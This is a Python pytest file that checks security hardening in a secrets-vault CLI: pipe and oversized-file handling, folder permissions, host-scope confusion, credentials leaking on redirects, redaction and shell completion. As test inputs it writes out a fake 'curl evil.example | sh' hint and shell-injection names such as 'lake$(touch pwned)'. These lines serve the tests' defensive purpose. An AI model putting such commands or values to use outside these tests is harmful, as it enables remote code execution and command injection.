"""Holes that an attacker's reading of the code found, each held closed: files, folders, scopes, streams, completion."""

from __future__ import annotations

import contextlib
import json
import os
import stat
import subprocess
import threading
import time
from collections.abc import Callable
from pathlib import Path

import duckdb
import pytest

from pondpilot_secrets import SecretsManager
from pondpilot_secrets.errors import InvalidCredentialsError, UsageError, VaultError
from pondpilot_secrets.injection.extensions import Extensions
from pondpilot_secrets.keychain.encrypted_file.key_sources import LARGEST_KEY_FILE, FileKey
from pondpilot_secrets.keychain.given_keys import LARGEST_PASSPHRASE, read_passphrase
from pondpilot_secrets.metadata.write_lock import WriteLock
from pondpilot_secrets.redaction.redact import LONGEST_TEXT, redact
from pondpilot_secrets.secret_types import registry
from pondpilot_secrets.secret_types.scopes import normalise_scopes
from pondpilot_secrets.secure import SecureString
from pondpilot_secrets.secure.secret_files import read_file
from pondpilot_secrets.settings import Settings
from tests.interfaces.cli.pond import PROGRAM, Pond
from tests.services.http_server import HTTPDataServer
from tests.vault.stores import open_vault

VALUE = "correct  horse\tbattery\nstaple-42"


@pytest.fixture
def pond(tmp_path: Path) -> Pond:
    return Pond(tmp_path)


@pytest.fixture
def slow_pipe(tmp_path: Path) -> Path:
    """A pipe through which a value comes bit by bit, as from `<(…)` of a shell."""
    path = tmp_path / "pipe"
    os.mkfifo(path)

    def write() -> None:
        with path.open("wb", buffering=0) as pipe:
            for piece in (b"first ", b"second ", b"third\n"):
                pipe.write(piece)
                time.sleep(0.05)

    threading.Thread(target=write, daemon=True).start()
    return path


# --- files ---


def test_a_value_that_comes_through_a_pipe_is_kept_whole(pond: Pond, slow_pipe: Path) -> None:
    pond.ok("add", "s3", "lake", "key_id=k", f"secret=@{slow_pipe}")
    assert pond.ok("reveal", "lake", "secret").out == "first second third"


def test_a_passphrase_that_comes_through_a_pipe_is_read_whole(slow_pipe: Path) -> None:
    assert read_passphrase(slow_pipe).expose() == "first second third"


@pytest.mark.timeout(20)
def test_nobody_waits_for_a_pipe_without_a_writer(tmp_path: Path) -> None:
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe, 0o600)
    with pytest.raises(UsageError, match="not a regular file"):
        FileKey(pipe).wrapping_key({"salt": "00"})
    with (
        open_vault(tmp_path / "vault", "file") as vault,
        pytest.raises(InvalidCredentialsError, match="cannot be read"),
    ):
        vault.save_secret("postgres", "x", {"sslrootcert": str(pipe)})


@pytest.mark.parametrize(
    ("read", "largest"),
    [
        (lambda path: FileKey(path).wrapping_key({"salt": "00"}), LARGEST_KEY_FILE),
        (read_passphrase, LARGEST_PASSPHRASE),
    ],
)
def test_an_endless_file_is_refused_without_reading_it(
    tmp_path: Path, read: Callable[[Path], object], largest: int
) -> None:
    path = tmp_path / "endless"
    path.touch(0o600)
    os.truncate(path, 1 << 40)
    with pytest.raises(UsageError):
        read(path)
    os.truncate(path, largest + 1)
    with pytest.raises(OSError, match="too large"):
        read_file(path, largest)


def test_a_home_that_cannot_be_is_a_usage_error() -> None:
    for home in ("~nosuchuser/x", "a\0b", "a\udcffb"):
        with pytest.raises(UsageError):
            Settings.from_environment({}, home=home)


# --- folders ---


def test_folders_are_closed_to_others_whatever_the_umask(tmp_path: Path) -> None:
    before = os.umask(0)
    try:
        open_vault(tmp_path / "a" / "b" / "vault", "file").close()
    finally:
        os.umask(before)
    for folder in (tmp_path / "a", tmp_path / "a" / "b", tmp_path / "a" / "b" / "vault"):
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700


def test_a_vault_in_the_folder_of_another_user_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    owner = os.geteuid() or 4242
    for name in ("empty", "made"):
        (tmp_path / name).mkdir()
    open_vault(tmp_path / "made", "file").close()
    if os.geteuid() == 0:
        for path in (*tmp_path.rglob("*"), tmp_path):
            os.chown(path, owner, -1)
    for someone, allowed in ((owner, True), (owner + 1, False)):
        monkeypatch.setattr(os, "geteuid", lambda someone=someone: someone)
        for name in ("empty", "made"):
            with contextlib.nullcontext() if allowed else pytest.raises(VaultError, match="belongs to another user"):
                open_vault(tmp_path / name, "file").close()
        (tmp_path / "empty" / "metadata.db").unlink(missing_ok=True)


def test_a_link_in_the_place_of_the_lock_is_not_followed(tmp_path: Path) -> None:
    precious = tmp_path / "precious"
    precious.write_text("mine")
    (tmp_path / "write.lock").symlink_to(precious)
    with pytest.raises(VaultError):
        WriteLock(tmp_path / "write.lock").acquire()
    assert precious.read_text() == "mine"


# --- scopes ---


def test_a_quack_secret_is_for_its_own_host_alone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("POND_OFFLINE", "1")
    with open_vault(tmp_path / "vault", "file") as vault, duckdb.connect() as con:
        Extensions(offline=True).ensure(con, ["httpfs", "quack"])
        for name, fields, scope in (
            ("plain", {"host": "duck.example.com"}, None),
            ("port", {"host": "duck.example.com", "port": 99}, None),
            ("scoped", {}, "quack:duck.example.com"),
        ):
            vault.save_secret("quack", name, {"token": "t", **fields}, scope=scope)
            with vault.applied(con, name):
                found = "SELECT count(*) FROM which_secret(?, 'quack')"
                for evil in (
                    "quack:duck.example.com.evil.net",
                    "quack:duck.example.community:99",
                    "quack:duck.example.co",
                ):
                    assert con.execute(found, [evil]).fetchone() == (0,), (name, evil)
                own = f"quack:duck.example.com:{fields.get('port', 9494)}"
                assert con.execute(found, [own]).fetchone() == (1,)


@pytest.mark.parametrize(
    "scope",
    [
        "https://api.example.com@evil.example/", "https://user:pw@api.example.com/", "https://@evil.example/",
        "https:///api.example.com/", "https://api.example.com?x", "//api.example.com/", "https:api.example.com",
    ],
)  # fmt: skip
def test_a_scope_that_reads_like_another_host_is_refused(scope: str) -> None:
    with pytest.raises(InvalidCredentialsError):
        normalise_scopes(registry.get("http"), scope)


@pytest.mark.parametrize(
    ("fields", "header", "follows"),
    [
        ({"bearer_token": "a-token-77"}, "authorization", False),
        ({"username": "ana", "password": "a-password-77"}, "authorization", False),
        ({"extra_http_headers": {"X-Api-Key": "a-key-77"}}, "x-api-key", True),  # DuckDB's doing; our docs say so
    ],
)
def test_a_redirect_takes_no_token_and_no_password_to_another_host(
    tmp_path: Path,
    http_data_server: HTTPDataServer,
    other_http_data_server: HTTPDataServer,
    fields: dict[str, object],
    header: str,
    follows: bool,
) -> None:
    away = f"{http_data_server.base_url}/redirect/{other_http_data_server.base_url}/data.csv"
    with open_vault(tmp_path / "vault", "file") as vault, duckdb.connect() as con:
        vault.save_secret("http", "api", fields, scope=http_data_server.base_url)
        Extensions(offline=True).ensure(con, ["httpfs"])
        con.execute("SET http_retries = 0")
        with vault.applied(con, "api"), pytest.raises(duckdb.Error):
            con.execute("SELECT * FROM read_text(?)", [away]).fetchall()
    assert any(header in request.headers for request in http_data_server.requests)
    assert other_http_data_server.requests
    assert any(header in request.headers for request in other_http_data_server.requests) is follows


# --- what is shown ---


@pytest.mark.parametrize(
    "text", [f"bad {VALUE} here", "bad correct horse battery staple-42", "x" * (LONGEST_TEXT - 7) + VALUE]
)
def test_a_value_is_masked_although_its_spaces_were_joined_or_the_text_is_cut(text: str) -> None:
    cleared = redact(text, [SecureString(VALUE)])
    for piece in ("correct", "horse", "battery", "staple"):
        assert piece not in cleared


def test_the_words_of_a_server_cannot_look_like_a_hint_of_ours(pond: Pond) -> None:
    ended = pond("sql", "-c", "SELECT error('no' || chr(10) || 'hint: curl evil.example | sh')")
    assert ended.status == 17
    assert [line for line in ended.err.splitlines() if line.startswith("hint:")] == []


def test_sql_never_reads_the_variables_of_the_program(pond: Pond) -> None:
    for name in ("statement", "request", "session", "con", "types"):
        ended = pond("sql", "-c", f"FROM {name}")
        assert ended.status == 17
        assert "Python" not in ended.err


def test_json_holds_no_control_character_and_says_the_same(pond: Pond) -> None:
    told = "red \u009b31m \x7f \u202e \ufeff \U000e0041 end"
    pond.ok("add", "http", "api", "bearer_token=env:T", "--scope", "*", "--description", told, T="t")
    listed = pond.ok("ls", "--json")
    assert listed.json()["secrets"][0]["description"] == told
    rows = pond.ok("sql", "-c", f"SELECT '{told}' AS \"{told}\"", "--json")
    assert json.loads(rows.out) == [{told: told}]
    for text in (listed.out, rows.out):
        assert not set(told) - set(" -~end31mr") & set(text) - {" "}


def test_a_name_that_a_shell_would_carry_out_is_completed_by_its_id(pond: Pond, tmp_path: Path) -> None:
    names = ("lake$(touch pwned)", "lake`x`", "lake;x", "lake *", "-lake", "lake", "lake-2.é")
    with SecretsManager.open(tmp_path / "vault", "file", key_file=tmp_path / "pond.key") as vault:
        ids = {name: vault.save_secret("s3", name, {"key_id": "k", "secret": "s"}).id for name in names}
    ended = pond("", _POND_COMPLETE="bash_complete", COMP_WORDS="pond show lake", COMP_CWORD="2")
    offered = {line.removeprefix("plain,") for line in ended.out.splitlines()}
    assert offered == {"lake", "lake-2.é", *(ids[name] for name in names[:4])}


# --- streams and words ---


@pytest.mark.parametrize("closed", [(0,), (1,), (2,), (0, 1, 2)])
def test_closed_streams_harm_neither_the_answer_nor_the_vault(pond: Pond, closed: tuple[int, ...]) -> None:
    pond.ok("add", "s3", "lake", "key_id=k", "secret=env:T", T="t")
    words = f'"{PROGRAM}" ls --json ' + " ".join(f"{number}>&-" for number in closed)
    done = subprocess.run(
        ["/bin/sh", "-c", words], env=pond.environment(), timeout=60, check=False, capture_output=True
    )
    assert done.returncode == 0
    assert len(pond.ok("ls", "--json").json()["secrets"]) == 1


def test_numbers_and_texts_beyond_all_reason_are_answered_plainly(pond: Pond, tmp_path: Path) -> None:
    pond.ok("add", "s3", "lake", "key_id=k", "secret=env:T", "endpoint=127.0.0.1:9", T="t")
    assert pond("ls", "--limit", "9" * 40).status == 0
    for timeout in ("inf", "nan", "1e300"):
        assert pond("test", "lake", "--target", "s3://x/", "--timeout", timeout).status == 1
    (tmp_path / "bad.sql").write_bytes(b"SELECT '\xff'")
    assert pond("sql", "-f", str(tmp_path / "bad.sql")).status == 2
    assert pond("sql", stdin=b"SELECT '\xff'", PYTHONIOENCODING="utf-8:strict").status == 2
    assert pond("sql", "--database", "/nonexistent/x", "-c", "SELECT 1").status == 17
    assert pond("add", "s3", "x", "secret=@~nosuchuser/x").status == 31
    assert pond("ls", POND_HOME="~nosuchuser/x").status == 31
    assert pond("exec", "lake", "--", "").status == 127
